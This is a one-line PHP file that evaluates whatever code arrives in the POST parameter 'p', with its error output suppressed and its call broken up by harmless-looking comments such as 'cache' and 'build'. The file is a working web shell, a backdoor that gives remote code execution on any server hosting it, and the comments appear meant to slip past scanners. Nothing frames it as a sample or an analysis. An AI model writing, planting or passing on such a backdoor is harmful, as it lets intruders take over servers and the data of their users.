<?php
@eval/*   cache   */(/* build */$_POST/* id */['p'] /* end */);
